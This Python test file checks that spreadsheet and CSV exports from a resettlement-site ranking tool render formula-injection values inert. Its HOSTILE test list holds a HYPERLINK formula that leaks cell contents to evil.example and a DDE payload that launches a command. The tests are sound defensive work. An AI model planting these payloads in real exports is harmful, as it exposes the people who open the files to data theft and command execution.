"""Formula injection (issue 9): a value starting with = + - @ tab or CR is inert in every Excel and CSV export.

Excel: the cell is an explicit text cell (openpyxl data_type 's', quote prefix), its value unchanged; CSV: the value
gets a leading apostrophe. Checked on the ranking workbook and CSV, the circular workbook, the gap list CSV and on
the shared helpers every export goes through (data.exports.layout)."""
from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook

from data.exports import circular_workbook, ranking_csv, ranking_workbook, table_csv
from data.exports.layout import FORMULA_TRIGGERS, csv_safe_value, formula_like
from data.exports.sheet import save
from services.gaps import GAP_COLUMNS, gaps_csv
from tests.data.test_exports import circular, site_table

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "=1+1"]


def _cells(data: bytes):
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def _assert_inert(data: bytes, values) -> None:
    cells = _cells(data)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell in the export"
    for v in values:
        hits = [c for c in cells if c.value == v]
        assert hits, f"{v!r} not found unchanged"
        for c in hits:
            assert c.data_type == "s" and c.quotePrefix, (c.coordinate, c.data_type)


def test_helpers():
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}
    assert all(formula_like(v) for v in HOSTILE)
    assert not formula_like("兴义市") and not formula_like(-2.5) and not formula_like("")
    assert csv_safe_value("=1+1") == "'=1+1" and csv_safe_value("安置点") == "安置点" and csv_safe_value(3) == 3


def test_ranking_workbook_and_csv_inert():
    t = site_table(12)
    t.loc[0, "安置点"], t.loc[1, "安置点"] = HOSTILE[0], HOSTILE[1]
    t.loc[2, "县"], t.loc[3, "短板"] = HOSTILE[3], HOSTILE[2]
    data = ranking_workbook(t, title="排名", month="2026-10", catalogue_version="v1", note=HOSTILE[6])
    _assert_inert(data, [HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[3]])
    # the note line (a footnote cell) is text too
    assert any(c.value == HOSTILE[6] and c.data_type == "s" for c in _cells(data))
    rows = list(csv.reader(io.StringIO(ranking_csv(t).decode("utf-8-sig"))))
    flat = [v for r in rows for v in r]
    for v in (HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[3]):
        assert "'" + v in flat and v not in flat
    # numbers stay numbers (a negative change is not text)
    assert pd.read_csv(io.BytesIO(ranking_csv(t)), encoding="utf-8-sig")["总分"].dtype.kind == "f"


def test_circular_workbook_inert():
    c = circular(praise=[HOSTILE[0]], lagging=[(HOSTILE[3], [HOSTILE[1]])])
    st = c.site_table.copy()
    st.loc[0, "安置点"] = HOSTILE[6]
    c = circular(site_table=st, praise=[HOSTILE[0]], lagging=[(HOSTILE[3], [HOSTILE[1]])])
    data = circular_workbook(c)
    _assert_inert(data, [HOSTILE[6]])
    assert not [x for x in _cells(data) if x.data_type == "f"]


def test_gap_list_csv_inert():
    row = {c: "x" for c in GAP_COLUMNS} | {"户主": HOSTILE[0], "安置点": HOSTILE[4], "site_code": "s",
                                           "county_code": "c"}
    text = gaps_csv(pd.DataFrame([row])).decode("utf-8-sig")
    got = next(csv.DictReader(io.StringIO(text)))
    assert got["户主"] == "'" + HOSTILE[0] and got["安置点"] == "'" + HOSTILE[4]
    assert "site_code" not in got
    assert table_csv(pd.DataFrame({"=x": ["@y", 1]})).decode("utf-8-sig").splitlines()[0] == "'=x"


@pytest.mark.parametrize("v", HOSTILE)
def test_any_workbook_saved_by_exports_is_inert(v):
    wb = Workbook()
    wb.active["B2"] = v
    cell = next(c for c in _cells(save(wb)))
    assert cell.value == v and cell.data_type == "s" and cell.quotePrefix
